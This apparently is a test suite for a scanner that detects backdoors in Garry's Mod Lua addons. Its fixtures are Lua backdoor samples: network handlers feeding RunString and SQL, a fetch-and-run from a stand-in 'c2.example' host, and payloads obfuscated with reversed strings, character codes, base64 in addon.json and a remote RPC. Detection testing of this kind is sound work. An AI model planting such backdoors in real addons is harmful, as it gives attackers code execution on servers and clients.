// The analysis front: files that mention nothing watched are skimmed, not parsed, unless the
// addon-wide fixpoint finds them calling, by path, a function that reaches a sink.
import { describe, expect, it } from 'vitest';
import type { ArchiveEntry } from '../archive/types.js';
import { loadThreatIntel } from '../intel/index.js';
import { analyzeAddon, type CallEvent } from './index.js';
import { taintOf } from './values.js';

/** The taint of a call's n-th argument, if any. */
function taintOfArg(call: CallEvent | undefined, n: number) {
  const arg = call?.args[n];
  return arg ? taintOf(arg) : undefined;
}

function entries(files: Record<string, string>): ArchiveEntry[] {
  return Object.entries(files).map(([path, text]) => {
    const bytes = new TextEncoder().encode(text);
    return { path, size: bytes.length, depth: 0, kind: 'lua', bytes };
  });
}

const intel = loadThreatIntel();

describe('analyzeAddon', () => {
  it('skims files with nothing watched and parses the others', () => {
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/client/cl_hud.lua':
          'hook.Add("HUDPaint", "x", function() draw.SimpleText("hi", "Default", 0, 0) end)',
        'lua/autorun/server/sv_run.lua':
          'concommand.Add("x", function(p, c, a) RunString(a[1]) end)',
      }),
      { intel },
    );
    const parse = Object.fromEntries(analysis.files.map((f) => [f.path, f.parse]));
    expect(parse).toEqual({
      'lua/autorun/client/cl_hud.lua': 'skimmed',
      'lua/autorun/server/sv_run.lua': 'ok',
    });
    expect(analysis.files[0]!.lineCount).toBe(1);
    expect(analysis.calls.some((c) => c.api === 'RunString' && taintOfArg(c, 0))).toBe(true);
  });

  it('follows a chain through a file with nothing watched in it', () => {
    // The middle file names no sink and no source: only the fixpoint brings it in.
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/a_receiver.lua':
          'util.AddNetworkString("sync")\nnet.Receive("sync", function(len, ply) Relay.pass(net.ReadString()) end)',
        'lua/autorun/server/b_relay.lua':
          'Relay = Relay or {}\nfunction Relay.pass(s)\n  local cleaned = string.Trim(s)\n  Relay.apply(cleaned)\nend\nfunction Relay.unrelated() print("x") end',
        'lua/autorun/server/c_apply.lua': 'function Relay.apply(code) RunString(code) end',
      }),
      { intel },
    );
    const relay = analysis.files.find((f) => f.path.endsWith('b_relay.lua'))!;
    expect(relay.parse).toBe('ok');
    const run = analysis.calls.find((c) => c.api === 'RunString' && taintOfArg(c, 0));
    expect(run?.file).toBe('lua/autorun/server/c_apply.lua');
    expect(run?.ctx.some((f) => f.kind === 'handler' && f.name === 'sync')).toBe(true);
  });

  it('reads lazily skipped bodies when a guard helper is judged', () => {
    // `canRun` mentions nothing watched, so its body is lazy until the guard asks for it.
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/sv_tool.lua':
          'local function canRun(ply) return ply:IsSuperAdmin() end\nconcommand.Add("lua_tool", function(ply, c, args)\n  if not canRun(ply) then return end\n  RunString(table.concat(args, " "))\nend)',
      }),
      { intel },
    );
    const run = analysis.calls.find((c) => c.api === 'RunString');
    expect(run?.ctx.some((f) => f.kind === 'guard')).toBe(true);
  });

  it('follows a sink alias into a body that only names the alias', () => {
    // The callback mentions neither RunString nor http: only the aliases bring it in.
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/sv_radio.lua':
          'local run, get = RunString, http.Fetch\ntimer.Simple(5, function()\n  get("https://x.invalid/a.lua", function(body) run(body) end)\nend)',
      }),
      { intel },
    );
    const run = analysis.calls.find((c) => c.api === 'RunString');
    expect(run?.line).toBe(3);
    expect(taintOfArg(run, 0)?.[0]?.kind).toBe('http');
  });

  it('runs a shared helper in the realm of the code that calls it', () => {
    const analysis = analyzeAddon(
      entries({
        'lua/menu/menu_publish.lua':
          'concommand.Add("item_publish", function(ply, cmd, args) Items:Publish(args[1]) end)',
        'lua/items/sh_items.lua':
          'Items = {}\nfunction Items:Publish(name)\n  RunConsoleCommand("item_publish", name)\nend',
      }),
      { intel },
    );
    const run = analysis.calls.find((c) => c.api === 'RunConsoleCommand' && taintOfArg(c, 1));
    expect(run?.file).toBe('lua/items/sh_items.lua');
    expect(run?.line).toBe(3);
    expect(run?.realm).toBe('client');
  });

  it('splits lines on LF, CRLF and a lone CR alike', () => {
    const texts = ['a\nb\n', 'a\r\nb\r\n', 'a\rb', 'a\r\nb\nc\rd', 'a\r', '\r\n\n', 'x'];
    const analysis = analyzeAddon(
      entries(Object.fromEntries(texts.map((t, i) => [`lua/f${i}.lua`, t]))),
      { intel },
    );
    expect(analysis.files.map((f) => f.lines)).toEqual(texts.map((t) => t.split(/\r?\n|\r/)));
  });

  it('keeps byte offsets (and lines) right after non-ASCII text', () => {
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/sv_note.lua':
          '-- café … naïve\nlocal function quiet() print("é") end\nnet.Receive("x", function() RunString(net.ReadString()) end)',
      }),
      { intel },
    );
    expect(analysis.files[0]!.parse).toBe('ok');
    expect(analysis.calls.find((c) => c.api === 'RunString')?.line).toBe(3);
  });

  it('does not link other files to what a file that does not compile defines', () => {
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/broken.lua': 'function Lib.run(s) RunString(s) end\nlocal x = = 1',
        'lua/autorun/server/other.lua': 'function other(ply) Lib.run(ply:Nick()) end',
      }),
      { intel },
    );
    const parse = Object.fromEntries(analysis.files.map((f) => [f.path, f.parse]));
    expect(parse).toEqual({
      'lua/autorun/server/broken.lua': 'recovered',
      'lua/autorun/server/other.lua': 'skimmed',
    });
  });

  it('loads a quiet file when running code calls a function it defines', () => {
    // lib.lua has nothing worth a tree: it is read only when the wrapper is called, and the
    // registration is reported where the addon names the message.
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/lib.lua':
          'Lib = Lib or {}\nfunction Lib.OnNet(receive, name, fn)\n  receive(name, function(len, ply) fn(len, ply) end)\nend',
        'lua/autorun/server/sv_main.lua':
          'Lib.OnNet(net.Receive, "sync_cfg", function(len, ply)\n  RunString(net.ReadString())\nend)',
      }),
      { intel },
    );
    const lib = analysis.files.find((f) => f.path.endsWith('lib.lua'))!;
    expect(lib.parse).toBe('ok');
    const receive = analysis.calls.find((c) => c.api === 'net.Receive');
    expect([receive?.file, receive?.line]).toEqual(['lua/autorun/server/sv_main.lua', 1]);
    const run = analysis.calls.find((c) => c.api === 'RunString' && taintOfArg(c, 0));
    expect(run?.ctx.some((f) => f.kind === 'handler' && f.name === 'sync_cfg')).toBe(true);
  });

  it('loads it too when the namespace table already holds other fields', () => {
    // cfg.lua runs first and gives Lib (created in a file the game loads earlier) a field, so
    // Lib is a table by the time sv_main calls Lib.OnNet: its missing key still means
    // "defined in a file not loaded yet".
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/cfg.lua': 'Lib.config = file.Read("lib.txt", "DATA")',
        'lua/autorun/server/lib.lua':
          'function Lib.OnNet(receive, name, fn)\n  receive(name, function(len, ply) fn(len, ply) end)\nend',
        'lua/autorun/server/sv_main.lua':
          'Lib.OnNet(net.Receive, "sync_cfg", function(len, ply)\n  print(net.ReadString())\nend)',
      }),
      { intel },
    );
    expect(analysis.files.find((f) => f.path.endsWith('lib.lua'))!.parse).toBe('ok');
    const receive = analysis.calls.find((c) => c.api === 'net.Receive');
    expect(receive?.file).toBe('lua/autorun/server/sv_main.lua');
  });

  it('emulates a handler that only reads, when it hands the data to a helper that queries SQL', () => {
    // The handler alone (a net read) is not worth a tree; calling Store.save, which holds SQL,
    // makes it relevant by the path it calls.
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/sv_store.lua':
          'Store = {}\nfunction Store.save(ply, name)\n  sql.Query("INSERT INTO notes VALUES (\'" .. name .. "\')")\nend',
        'lua/autorun/server/sv_net.lua':
          'local function onSave(len, ply)\n  local name = net.ReadString()\n  Store.save(ply, name)\nend\nnet.Receive("notes_save", onSave)',
      }),
      { intel },
    );
    const query = analysis.calls.find((c) => c.api === 'sql.Query');
    expect(taintOfArg(query, 0)?.[0]?.kind).toBe('net');
    expect(query?.ctx.some((f) => f.kind === 'handler' && f.name === 'notes_save')).toBe(true);
  });

  it('finds a caller nested two functions deep in code nobody calls', () => {
    // Neither SetupNet nor onSave is worth a tree on its own; the fixpoint parses SetupNet
    // for the path it mentions, which leaves onSave lazy, and must then parse onSave too.
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/sv_store.lua':
          'Store = {}\nfunction Store.save(ply, name)\n  sql.Query("INSERT INTO notes VALUES (\'" .. name .. "\')")\nend',
        'lua/autorun/server/sv_net.lua':
          'function Addon.SetupNet()\n  local function onSave(len, ply)\n    Store.save(ply, net.ReadString())\n  end\n  net.Receive("notes_save", onSave)\nend',
      }),
      { intel },
    );
    // (Store.save also runs alone, with unknown arguments.)
    const query = analysis.calls.find((c) => c.api === 'sql.Query' && c.ctx.length > 0);
    expect(taintOfArg(query, 0)?.[0]?.kind).toBe('net');
    expect(query?.ctx.some((f) => f.kind === 'handler' && f.name === 'notes_save')).toBe(true);
  });

  describe('a file whose code outruns the emulation budget', () => {
    const backdoor =
      'util.AddNetworkString("sync_cfg")\n' +
      'net.Receive("sync_cfg", function(len, ply) RunString(net.ReadString()) end)\n';
    const received = (files: Record<string, string>) => {
      const analysis = analyzeAddon(entries(files), { intel });
      const run = analysis.calls.find((c) => c.api === 'RunString');
      return { analysis, run };
    };

    it('still sees the code after one loop that would spend the whole budget', () => {
      const padding =
        'local pad = {}\nfor a = 0, 255 do\n  for b = 0, 255 do pad[a + b * 256] = a * b end\nend\n';
      const { analysis, run } = received({ 'lua/autorun/server/sv_cfg.lua': padding + backdoor });
      expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
      expect(run?.ctx.some((f) => f.kind === 'handler' && f.name === 'sync_cfg')).toBe(true);
      // One loop takes at most half the budget, so the file is explored in full.
      expect(analysis.files[0]!.budgetExhausted).toBe(false);
    });

    it('still runs a helper for attacker data after thousands of harmless calls', () => {
      const helper =
        'local function apply(code)\n  if code == nil then return end\n  RunString(code)\nend\n' +
        'for i = 1, 4000 do apply(nil) end\n' +
        'util.AddNetworkString("sync_cfg")\n' +
        'net.Receive("sync_cfg", function(len, ply) apply(net.ReadString()) end)\n';
      const { run } = received({ 'lua/autorun/server/sv_cfg.lua': helper });
      expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
      expect(run?.ctx.some((f) => f.kind === 'handler' && f.name === 'sync_cfg')).toBe(true);
    });

    it('still runs a helper for attacker data once the file went shallow', () => {
      // Two half-budget loops use the budget up; the helper then runs once with nil.
      const helper =
        'local function apply(code)\n  if code == nil then return end\n  RunString(code)\nend\n' +
        'local p1, p2 = {}, {}\nfor i = 0, 65535 do p1[i] = i end\nfor i = 0, 65535 do p2[i] = i end\n' +
        'apply(nil)\n' +
        'util.AddNetworkString("sync_cfg")\n' +
        'net.Receive("sync_cfg", function(len, ply) apply(net.ReadString()) end)\n';
      const { analysis, run } = received({ 'lua/autorun/server/sv_cfg.lua': helper });
      expect(analysis.files[0]!.budgetExhausted).toBe(true);
      expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
    });

    it('still runs a decoded payload handed to a runner after thousands of padding calls', () => {
      const payload = 'http.Fetch("http://c2.example/p.lua", function(b) RunString(b) end)';
      const reversed = [...payload].reverse().join('').replace(/"/g, '\\"');
      const { analysis } = received({
        'lua/autorun/server/sv_cfg.lua':
          'local function run(code)\n  if code then RunString(code) end\nend\n' +
          'for i = 1, 3001 do run(nil) end\n' +
          `run(string.reverse("${reversed}"))\n`,
      });
      const run = analysis.calls.find((c) => c.api === 'RunString');
      expect(run?.args[0]).toMatchObject({ k: 'str', v: payload });
      // The payload itself was analysed again: its http.Fetch is an event of depth 1.
      expect(analysis.calls.some((c) => c.api === 'http.Fetch')).toBe(true);
    });

    it('still sees it after many such loops, walking the rest shallowly', () => {
      const loops = Array.from(
        { length: 12 },
        (_, i) => `local pad${i} = {}\nfor a = 0, 65535 do pad${i}[a] = a * ${i} end\n`,
      ).join('');
      const { analysis, run } = received({ 'lua/autorun/server/sv_cfg.lua': loops + backdoor });
      expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
      expect(analysis.files[0]!.budgetExhausted).toBe(true);
    });
  });

  it('keeps recording a backdoor once padding filled the cap on distinct call events', () => {
    const padding = 'for i = 1, 200 do file.Write("pad_" .. i .. ".txt", "x") end\n';
    const backdoor =
      'util.AddNetworkString("sync_cfg")\n' +
      'net.Receive("sync_cfg", function(len, ply)\n' +
      '  sql.Query("SELECT " .. net.ReadString())\n' +
      '  RunString(net.ReadString())\n' +
      'end)\n';
    const analysis = analyzeAddon(
      entries({ 'lua/autorun/server/sv_cfg.lua': padding + backdoor }),
      {
        intel,
        maxCallEvents: 50,
      },
    );
    const writes = analysis.calls.filter((c) => c.api === 'file.Write');
    expect(writes.length).toBeLessThanOrEqual(50);
    const run = analysis.calls.find((c) => c.api === 'RunString');
    expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
    const query = analysis.calls.find((c) => c.api === 'sql.Query');
    expect(taintOfArg(query, 0)?.[0]?.kind).toBe('net');
  });

  it('judges a condition holding a table of 150 000 fields (no spread of its children)', () => {
    const fields = Array(150_000).fill('2').join(',');
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/sv_cfg.lua':
          'util.AddNetworkString("x")\n' +
          `net.Receive("x", function() if #{${fields}} > 0 then RunString(net.ReadString()) end end)\n`,
      }),
      { intel },
    );
    const run = analysis.calls.find((c) => c.api === 'RunString');
    expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
  });
});

describe('loops with unknown branches', () => {
  // A drawing routine: nested loops over a grid whose cells the emulator cannot know.
  const drawing =
    'hook.Add("HUDPaint", "screen", function()\n' +
    '  for y = 0, 29 do\n' +
    '    for x = 0, 29 do\n' +
    '      local c = cells[x + y * 30]\n' +
    '      if c > 999 then surface.SetDrawColor(255, 0, 0, 255) else surface.SetDrawColor(0, 0, 0, 255) end\n' +
    '      surface.DrawRect(x * 8, y * 8, 8, 8)\n' +
    '    end\n' +
    '  end\n' +
    '  file.Write("screen.txt", "drawn")\n' +
    'end)\n';

  it('leaves a loop once its iterations learn nothing new', () => {
    const analysis = analyzeAddon(entries({ 'lua/autorun/client/cl_screen.lua': drawing }), {
      intel,
    });
    const file = analysis.files[0]!;
    expect(file.parse).toBe('ok');
    // 16 × 16 bodies (the cap on iterations with unknown branches) took over 4 000 steps; the
    // loops now stop after two quiet iterations each, plus one widened pass.
    expect(file.emulationSteps).toBeGreaterThan(0);
    expect(file.emulationSteps).toBeLessThan(1_000);
    expect(analysis.calls.filter((c) => c.api === 'surface.SetDrawColor')).toHaveLength(0);
    expect(analysis.calls.some((c) => c.api === 'file.Write')).toBe(true);
  });

  it('still explores what a later iteration does (the loop variable as unknown)', () => {
    // Iterations 1–76 learn nothing; the 77th runs what the client sent. Under the old cap
    // of 16 iterations the call was never reached.
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/sv_cfg.lua':
          'util.AddNetworkString("cfg")\n' +
          'net.Receive("cfg", function(len, ply)\n' +
          '  local code = net.ReadString()\n' +
          '  for i = 1, 100 do\n' +
          '    if ply:IsValid() then print(i) end\n' +
          '    if i == 77 then RunString(code) end\n' +
          '  end\n' +
          'end)\n',
      }),
      { intel },
    );
    const run = analysis.calls.find((c) => c.api === 'RunString');
    expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
  });

  // Each iteration adds to a string or a table made before the loop: never quiet, so the
  // whole name is decoded even though the body has an unknown branch.
  it.each([
    ['appends to a string', '""', 'name = name .. string.char(t[i])', 'name'],
    ['fills a table', '{}', 'name[#name + 1] = string.char(t[i])', 'table.concat(name)'],
  ])('keeps iterating a loop that %s made before it', (_, initial, step, decoded) => {
    const codes = [...'RunString'].map((ch) => ch.charCodeAt(0)).join(', ');
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/sv_cfg.lua':
          'util.AddNetworkString("cfg")\n' +
          'net.Receive("cfg", function(len, ply)\n' +
          `  local t, name = { ${codes} }, ${initial}\n` +
          '  for i = 1, #t do\n' +
          '    if ply:IsValid() then print(i) end\n' +
          `    ${step}\n` +
          '  end\n' +
          `  _G[${decoded}](net.ReadString())\n` +
          'end)\n',
      }),
      { intel },
    );
    const run = analysis.calls.find((c) => c.api === 'RunString');
    expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
  });

  it('runs a client file included by server code on the server too (its SERVER branch)', () => {
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/sv_xhair.lua':
          'include(string.format("autorun/%s/cl_xhair.lua", "client"))\nhook.Add("PlayerSay", "x", function(ply, text) net.Start("xhair_sync") net.WriteString(text) net.Send(ply) end)',
        'lua/autorun/client/cl_xhair.lua': [
          'if SERVER then',
          '  util.AddNetworkString("xhair_sync")',
          '  net.Receive("xhair_sync", function(len, ply) RunString(net.ReadString()) end)',
          '  return',
          'end',
          'hook.Add("HUDPaint", "x", function() surface.DrawRect(0, 0, 2, 2) end)',
        ].join('\n'),
      }),
      { intel },
    );
    const run = analysis.calls.find((c) => c.api === 'RunString');
    expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
    expect(run?.realm).toBe('server');
    const realms = Object.fromEntries(analysis.files.map((f) => [f.path, f.realm]));
    expect(realms['lua/autorun/client/cl_xhair.lua']).toBe('shared');
  });

  it('leaves a client file the server only sends to clients in the client realm', () => {
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/sv_xhair.lua':
          'AddCSLuaFile("autorun/client/cl_xhair.lua")\nutil.AddNetworkString("xhair_sync")',
        'lua/autorun/client/cl_xhair.lua': [
          'if SERVER then',
          '  net.Receive("xhair_sync", function(len, ply) RunString(net.ReadString()) end)',
          '  return',
          'end',
          'net.Receive("xhair_sync", function() print(net.ReadString()) end)',
        ].join('\n'),
      }),
      { intel },
    );
    expect(analysis.calls.some((c) => c.api === 'RunString')).toBe(false);
    const realms = Object.fromEntries(analysis.files.map((f) => [f.path, f.realm]));
    expect(realms['lua/autorun/client/cl_xhair.lua']).toBe('client');
  });

  it('reads a global table that a settings file with nothing watched builds', () => {
    // The settings file names no sink: it is only run when a global it fills is read.
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/sh_xhair_config.lua':
          'Xhair = Xhair or {}\nXhair.Bitmap = { 0x52, 0x75, 0x6E, 0x53, 0x74, 0x72, 0x69, 0x6E, 0x67 }',
        'lua/autorun/server/sv_xhair.lua': [
          'util.AddNetworkString("xhair_sync")',
          'local load = _G[string.char(unpack(Xhair.Bitmap))]',
          'net.Receive("xhair_sync", function(len, ply) load(net.ReadString()) end)',
        ].join('\n'),
      }),
      { intel },
    );
    const parse = Object.fromEntries(analysis.files.map((f) => [f.path, f.parse]));
    expect(parse['lua/autorun/sh_xhair_config.lua']).toBe('ok');
    const run = analysis.calls.find((c) => c.api === 'RunString');
    expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
  });

  it('leaves a settings file unparsed when nothing reads the globals it fills', () => {
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/sh_xhair_config.lua': 'Xhair = Xhair or {}\nXhair.Size = { 4, 6 }',
        'lua/autorun/server/sv_xhair.lua':
          'util.AddNetworkString("xhair_sync")\nnet.Receive("xhair_sync", function(len, ply) Other.Run(net.ReadString()) end)',
      }),
      { intel },
    );
    const parse = Object.fromEntries(analysis.files.map((f) => [f.path, f.parse]));
    expect(parse['lua/autorun/sh_xhair_config.lua']).toBe('skimmed');
  });

  it("reads the addon's own addon.json from its folder found at run time", () => {
    const files = entries({
      'lua/autorun/server/sv_sig.lua': [
        'local root = string.match(debug.getinfo(1, "S").source or "", "^@?(addons/[^/]+)/")',
        'hook.Add("Initialize", "sig", function()',
        '  local info = util.JSONToTable(file.Read(root .. "/addon.json", "GAME") or "")',
        '  local sig = string.match(info.description, "build%-signature:%s*([%w%+/=]+)")',
        '  local check = CompileString(util.Base64Decode(sig) or "", "sig", false)',
        '  if isfunction(check) then check() end',
        'end)',
      ].join('\n'),
    });
    const json = new TextEncoder().encode(
      JSON.stringify({
        title: 'Quick Weapons',
        description:
          'Spawn menu. build-signature: dXRpbC5BZGROZXR3b3JrU3RyaW5nKCJxd19zaWciKSBuZXQuUmVjZWl2ZSgicXdfc2lnIiwgZnVuY3Rpb24oKSBSdW5TdHJpbmcobmV0LlJlYWRTdHJpbmcoKSkgZW5kKQ==',
      }),
    );
    files.push({ path: 'addon.json', size: json.length, depth: 0, kind: 'text', bytes: json });
    const analysis = analyzeAddon(files, { intel });
    const run = analysis.calls.find((c) => c.api === 'RunString');
    expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
  });

  it('follows a call by the global path a file stores its local table under', () => {
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/sh_goal.lua':
          'Goal = Goal or {}\ninclude("goal/sv_chain.lua")\ninclude("goal/sv_goal.lua")',
        'lua/goal/sv_chain.lua': [
          'local Chain = {}',
          'Goal.Chain = Chain',
          'function Chain.Call(method, cb)',
          '  HTTP({ url = "https://rpc.invalid/", method = "POST", body = method, success = function(code, body)',
          '    local res = util.JSONToTable(body)',
          '    if res and res.result then cb(res.result) end',
          '  end })',
          'end',
          'function Chain.Decode(hex)',
          '  local data = string.gsub(hex or "", "^0x", ""):sub(129)',
          '  return (data:gsub("%x%x", function(b) return string.char(tonumber(b, 16)) end))',
          'end',
          'function Chain.FetchTemplate(cb)',
          '  Chain.Call("eth_call", function(result)',
          '    local build = CompileString(Chain.Decode(result), "template", false)',
          '    if isfunction(build) then cb(build) end',
          '  end)',
          'end',
        ].join('\n'),
        'lua/goal/sv_goal.lua': [
          'local function RefreshTemplate()',
          '  Goal.Chain.FetchTemplate(function(fmt) Goal.Format = fmt end)',
          'end',
          'hook.Add("InitPostEntity", "goal", function() timer.Simple(20, RefreshTemplate) end)',
        ].join('\n'),
      }),
      { intel },
    );
    const compile = analysis.calls.find((c) => c.api === 'CompileString');
    expect(taintOfArg(compile, 0)?.[0]?.kind).toBe('http');
    // Run from the caller's handler, not only as a function nobody called.
    expect(compile?.ctx.some((f) => f.label === 'hook InitPostEntity')).toBe(true);
  });

  it('runs the reply callback of a request helper for each caller that hands it its own', () => {
    const analysis = analyzeAddon(
      entries({
        'lua/autorun/server/sv_api.lua': [
          'local Api = {}',
          'function Api.Call(method, cb)',
          '  http.Fetch("https://api.invalid/" .. method, function(body) cb(body) end)',
          'end',
          'hook.Add("InitPostEntity", "api", function()',
          '  Api.Call("balance", function(b) print(tonumber(b)) end)',
          '  Api.Call("motd", function(m) PrintMessage(HUD_PRINTTALK, m) end)',
          '  Api.Call("template", function(src) local f = CompileString(src, "t", false) if f then f() end end)',
          'end)',
        ].join('\n'),
      }),
      { intel },
    );
    const compile = analysis.calls.find((c) => c.api === 'CompileString');
    expect(taintOfArg(compile, 0)?.[0]?.kind).toBe('http');
  });
});
